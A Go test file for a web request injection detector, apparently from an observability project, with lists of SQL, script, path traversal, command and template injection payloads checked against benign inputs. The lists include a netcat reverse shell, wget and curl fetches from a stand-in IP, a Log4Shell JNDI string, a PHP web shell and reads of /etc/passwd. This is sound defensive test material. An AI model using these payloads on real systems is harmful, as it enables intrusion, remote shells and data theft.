package injection_test

import (
	"net/url"
	"strings"
	"testing"

	"github.com/goshawk-observability/goshawk/processors/security/injection"
)

const (
	none   = injection.None
	weak   = injection.Weak
	strong = injection.Strong
)

// attacks are texts, and what they try to become.
var attacks = map[injection.Kind][]string{
	injection.SQL: {
		"1' OR '1'='1", "1' or 1=1--", "admin'--", "admin' #", "' or ''='", "\" or \"\"=\"", "1 OR 1=1", "1) or (1=1", "1' AND 1=2 UNION SELECT NULL,NULL--", "1 union all select 1,2,3",
		"1/**/UNION/**/SELECT/**/password/**/FROM/**/users", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "1; DROP TABLE users", "1'; exec xp_cmdshell('dir')--", "1 AND SLEEP(5)", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
		"'; WAITFOR DELAY '0:0:5'--", "1;select pg_sleep(5)", "1 AND extractvalue(1,concat(0x7e,version()))", "' AND updatexml(1,concat(0x7e,user()),1)-- ", "1 order by 10--", "1' ORDER BY 3-- -", "1 having 1=1",
		"' || (SELECT table_name FROM information_schema.tables LIMIT 1) || '", "1 and ascii(substring((select database()),1,1))>64", "x' AND email IS NULL; --", "x' and 1=(select count(*) from users)--",
		"1' and '1' like '1", "-1 union select load_file('/etc/passwd')", "1 into outfile '/var/www/x.php'", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "%27%20or%201=1--", "1' || '1'='1",
		"1 and 1=utl_inaddr.get_host_address('x')", "1 AND (SELECT * FROM all_tables) IS NOT NULL", "' or password::text like 'a%", "'or'1'='1", "1'&&'1'='1", "select * from users where name = 'a' or 1=1", "1 or id is not null--",
		"\uff07 or 1=1--", "1 un\\u0069on select 1,2", "';shutdown--", "1 group by users.id having 1=1--", "') or ('a'='a",
	},
	injection.Script: {
		"<script>alert(1)</script>", "<ScRiPt src=//x></script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(document.cookie)", "java\tscript:alert(1)", "<iframe src=\"javascript:alert(1)\">",
		"\" onmouseover=\"alert(1)", "' autofocus onfocus=alert(1) x='", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3E", "+ADw-script+AD4-alert(1)", "\xc0\xbcscript\xc0\xbe",
		"<a href='data:text/html,<b>x'>", "<body/onload=alert(1)>", "<x onclick=alert(1)>", "data:text/html;base64,PHNjcmlwdD4=,",
	},
	injection.Traversal: {
		"../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "/etc/passwd", "....//....//etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
		"file:///etc/shadow", "../../boot.ini%00.jpg", "/..;/manager/html", "/proc/self/environ", "expect://id,/bin/ls", "..%u2215..%u2215etc/passwd",
	},
	injection.Command: {
		"127.0.0.1;cat /etc/passwd", "x|whoami", "x && wget http://192.0.2.1/a.sh", "$(curl http://192.0.2.1)", "`id`", "() { :;}; /bin/bash -c 'x'", "; ls -la", "a;${IFS}uname${IFS}-a", "<?php system($_GET[1]);?>", "cmd.exe /c dir", "x\nping -c 1 192.0.2.1",
		"| nc -e /bin/sh 192.0.2.1 4444", "${@print(phpinfo())}",
	},
	injection.Expression: {
		"${jndi:ldap://192.0.2.1/a}", "${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "{{7*7}}", "${7*7}", "{{config.items()}}", "<%= 7*7 %>", "#{7*7}", "%24%7Bjndi:dns://x%7D", "{{''.__class__.__subclasses__()}}",
		"%{(#a=1).(#b=2)}", "class.module.classLoader.resources",
	},
}

// honest are texts that mean no harm.
var honest = []string{
	"", "hello", "select a seat from the union", "union select committee on energy", "O'Brien", "d'Artagnan and l'été", "rock 'n' roll and blues", "don't stop", "it's 5 o'clock somewhere", "black and white or color", "order by mail",
	"drop table cloth", "1 or 2 bedrooms", "2 in 1 laptop", "insert coin", "update my account", "(555) 867-5309", "C# vs C++", "5'10\" tall", "\"exact phrase\" -exclude", "fish & chips", "a < b and b > c", "50% off", "#ff0000", "a--b", "1,2,3",
	"where is waldo", "like new", "price>10", "user@example.com", "2024-01-15T10:00:00Z", "https://example.com/a?b=c", "{\"a\":1}", "[1,2]", "a=b", "50;60", "cat;dog", "tom & jerry", "v1..v2", "e.g. this...", "C:\\Users\\me", "/usr/share/doc",
	"<b>bold</b> text", "I <3 you", "x <- y", "my script is on = off", "data: 5", "time: 10:30", "who; what; where", "top|bottom", "${price}", "{{name}}", "100 * 2", "a/b/c", "Smith; John", "sleep (album)", "count (Dracula)", "how to delete from a list",
	"create table in word", "group by category", "join us and win", "is null a number", "exec summary", "having fun", "the declaration of independence", "ca. 1'000 Fr.", "what's up; select one", "-1", "+49 30 123456", "a+b", "M&M's", "AT&T",
	"Mac OS X 10.15; rv:109.0", "begin; end", "admin", "password", "union", "select", "and", "or", "null", "true", "../", "script", "alert",
}

// TestValues judges values as they are, and as they are encoded in a query.
func TestValues(t *testing.T) {
	var in injection.Inspector
	for kind, texts := range attacks {
		for _, text := range texts {
			if v := in.Value(text); v[kind] != strong {
				t.Errorf("kind %d: %q is %d as it is", kind, text, v[kind])
			}
			encodings := map[string]string{"once": url.QueryEscape(text)}
			if !strings.Contains(text, "%") {
				encodings["twice"] = url.QueryEscape(encodings["once"])
			}
			for name, query := range encodings {
				if v := in.Request("/search", "a=1&q="+query+"&b=2"); v[kind] != strong {
					t.Errorf("kind %d: %q is %d encoded %s", kind, text, v[kind], name)
				}
			}
		}
	}
	for _, text := range honest {
		for k, strength := range in.Request("/search", "a=1&q="+url.QueryEscape(text)+"&b=2") {
			if strength == strong {
				t.Errorf("%q is %d of kind %d", text, strength, k)
			}
		}
	}
}

// TestPlaces puts attacks where they may be: names, paths, headers.
func TestPlaces(t *testing.T) {
	var in injection.Inspector
	if v := in.Request("/search", "1'+or+1=1--=1"); v[injection.SQL] != strong {
		t.Errorf("a name: %v", v)
	}
	if v := in.Request("/product/1'%20or%201=1--", ""); v[injection.SQL] != strong {
		t.Errorf("a path: %v", v)
	}
	if v := in.Request("/a/..%2f..%2fetc/passwd", ""); v[injection.Traversal] != strong {
		t.Errorf("a path out: %v", v)
	}
	if v := in.Request("/etc/passwd", ""); v[injection.Traversal] == strong {
		t.Errorf("a path of the site: %v", v)
	}
	for text, kind := range map[string]injection.Kind{
		"${jndi:ldap://192.0.2.1/a}": injection.Expression, "() { :;}; echo x": injection.Command, "Mozilla' or 1=1--": injection.SQL, "https://x/?q=<script>alert(1)</script>": injection.Script, "' AND SLEEP(5)-- -": injection.SQL,
	} {
		if v := in.Header(text); v[kind] != strong {
			t.Errorf("header %q: %v", text, v)
		}
	}
	for _, text := range []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "https://www.google.com/search?q=select+from+where", "curl/8.1", "-", "", "android-app://com.example",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "https://t.co/x'y", "Dalvik/2.1.0 (Linux; U; Android 9; id; ps)",
	} {
		if v := in.Header(text); !v.Clean() {
			t.Errorf("header %q: %v", text, v)
		}
	}
}

// TestLong looks at texts that are too long, or have too many values.
func TestLong(t *testing.T) {
	var in injection.Inspector
	if v := in.Request("/", strings.Repeat("a=b&", 100_000)); !v.Clean() {
		t.Errorf("many values: %v", v)
	}
	for _, part := range []string{"'", "(", "%25", "<", "..", "/*", "&#", "select ", "' or ", "{{", "$(", ":"} {
		in.Request(strings.Repeat(part, 10_000), "q="+strings.Repeat(part, 10_000))
	}
}

// FuzzRequest judges anything: the same each time, and without reading what it
// should not.
func FuzzRequest(f *testing.F) {
	for _, texts := range attacks {
		for _, text := range texts {
			f.Add(text, url.QueryEscape(text))
		}
	}
	for _, text := range honest {
		f.Add(text, text)
	}
	var in injection.Inspector
	f.Fuzz(func(t *testing.T, path, query string) {
		first := in.Request(path, query)
		in.Header(query)
		in.Value(path)
		var other injection.Inspector
		if again := other.Request(path, query); again != first {
			t.Errorf("%v, then %v", first, again)
		}
	})
}

func BenchmarkRequest(b *testing.B) {
	for name, query := range map[string]string{
		"plain":  "page=2&sort=price&category=telescopes&lang=en",
		"search": "q=it%27s+a+long+way+to+tipperary&page=2",
		"attack": "id=1%27%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))a)--%20-",
	} {
		b.Run(name, func(b *testing.B) {
			var in injection.Inspector
			b.ReportAllocs()
			for b.Loop() {
				in.Request("/category/telescopes", query)
			}
		})
	}
}
